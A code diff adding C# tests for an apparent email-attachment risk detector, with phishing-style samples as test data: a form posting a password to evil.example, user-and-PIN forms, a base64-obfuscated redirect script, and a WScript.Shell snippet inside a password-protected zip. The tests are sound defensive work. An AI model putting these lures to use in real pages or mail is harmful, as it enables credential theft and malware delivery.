@@ -1,4 +1,5 @@
 using System.Diagnostics;
+using Platform.Benchmarks.Detection.Samples.Containers.Writers;
 using Platform.Benchmarks.Detection.Samples.Office.Writers;
 using Platform.Engine.Detectors;
 using Platform.Engine.Detectors.Files;
@@ -120,6 +121,45 @@ public sealed class FileSignsTests
     public void A_macro_document_that_asks_to_be_switched_on_is_a_lure(string text)
     {
         Assert.Contains("macro-lure", new TestMail { Text = text, Files = [("report.docm", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)))] }.SignsOf(new OfficeMacro()));
+    }
+
+    public static TheoryData<string, string> Pages { get; } = new()
+    {
+        { "html-attachment-plain", "<form action=\"https://partner.example/subscribe\"><input name=email type=email><button>Subscribe</button></form>" },
+        { "html-attachment", "<form action=\"https://partner.example/a\" method=post><input name=email type=email><button>Open</button></form>" },
+        { "html-attachment", "<form action=\"https://partner.example/a\"><input name=user><input name=pin><button>Open</button></form>" },
+        { "html-attachment-plain", "<script>document.title='x'</script>" },
+        { "html-attachment", "<script>setTimeout(atob('bG9jYXRpb249J2h0dHBzOi8vZXZpbC5leGFtcGxlL2En'),9)</script>" },
+    };
+
+    [Theory]
+    [MemberData(nameof(Pages))]
+    public void A_page_is_plain_when_it_asks_for_no_more_than_a_line_and_its_scripts_do_nothing(string sign, string body)
+    {
+        var signs = new TestMail { Files = [("page.html", TestFiles.Text($"<html><body>{body}</body></html>"))] }.SignsOf(new RiskyFile());
+
+        Assert.Equal([sign], signs);
+    }
+
+    [Theory]
+    [InlineData("html-attachment-plain", "<p>Hello</p>")]
+    [InlineData("html-attachment", "<form action=\"https://evil.example/a\" method=post><input type=password name=p></form>")]
+    public void A_page_saved_in_one_file_is_as_plain_as_the_page_in_it(string sign, string body)
+    {
+        var saved = TestFiles.Text($"From: <Saved by Browser>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: https://www.partner.example/\r\n\r\n<html><body>{body}</body></html>\r\n--b--\r\n");
+
+        Assert.Equal([sign], new TestMail { Files = [("page.mht", saved)] }.SignsOf(new RiskyFile()));
+    }
+
+    [Theory]
+    [InlineData("archive-of-documents", "plan.txt", "the plan")]
+    [InlineData("archive-opened-with-password", "plan.js", "new ActiveXObject('WScript.Shell')")]
+    [InlineData("archive-opened-with-password", "plan.html", "<html><body>hello</body></html>")]
+    public void An_archive_opened_with_its_password_says_what_it_holds(string sign, string name, string content)
+    {
+        var archive = new ZipWriter(new Random(5), ZipCipher.Aes, "Xk9mm2").Add(name, System.Text.Encoding.UTF8.GetBytes(content)).ToArray();
+
+        Assert.Equal([sign], new TestMail { Text = "The password is Xk9mm2", Files = [("files.zip", archive)] }.SignsOf(new ArchiveTricks()));
     }
 
     [Fact]
